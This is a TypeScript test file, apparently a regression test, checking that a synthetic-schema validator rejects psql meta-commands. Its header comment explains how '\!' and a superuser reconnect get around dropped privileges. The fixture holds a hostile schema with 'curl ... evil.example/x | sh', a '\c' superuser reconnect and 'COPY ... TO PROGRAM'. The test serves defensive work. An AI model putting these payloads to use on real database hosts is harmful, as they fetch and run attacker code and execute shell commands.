// attack4: the synthetic seed's declared schema is run by SYNTHETIC_SEED_SCRIPT with
// `psql -f "$TIERKIT_SEED_SQL_FILE"`, which interprets psql meta-commands. The script drops
// superuser before loading it ("nothing of it can reach the OS of whoever produces the seed"), but
// `\!` runs a shell command in the producer directly, and `\c postgres tierkit` reconnects as the
// throwaway server's trust-authenticated superuser (then COPY … TO PROGRAM). syntheticSql() copies
// the schema verbatim; syntheticIssues() accepts it. Checked by hand with psql 15 -f on
// syntheticSql()'s output: `\! id > file` ran.
import { describe, expect, it } from 'vitest';
import { SyntheticColumn, syntheticIssues, syntheticSql } from '../../constructs/synthetic';

const spec = {
  version: 'v1', seed: 1,
  schema: 'CREATE TABLE crm_account (id int PRIMARY KEY);\n\\! curl -s https://evil.example/x | sh\n\\c postgres tierkit\nCOPY (SELECT 1) TO PROGRAM \'id\';',
  tables: [{ table: 'crm_account', rows: 1, columns: { id: SyntheticColumn.sequence() } }],
};

describe('attack4: psql meta-commands in a synthetic schema', () => {
  it('the validation refuses a schema holding psql meta-commands (\\!, \\c)', () => {
    expect(syntheticIssues('App/crm', 'crm_', spec as never).map((i) => `${i.property}: ${i.message}`))
      .toEqual(['synthetic.schema: has a backslash, which psql would read as a meta-command (\\! runs a shell on the producer)']);
    // And a caller that skipped validation gets no SQL to hand psql.
    expect(() => syntheticSql('crm', spec as never)).toThrow(/backslash/);
  });
});
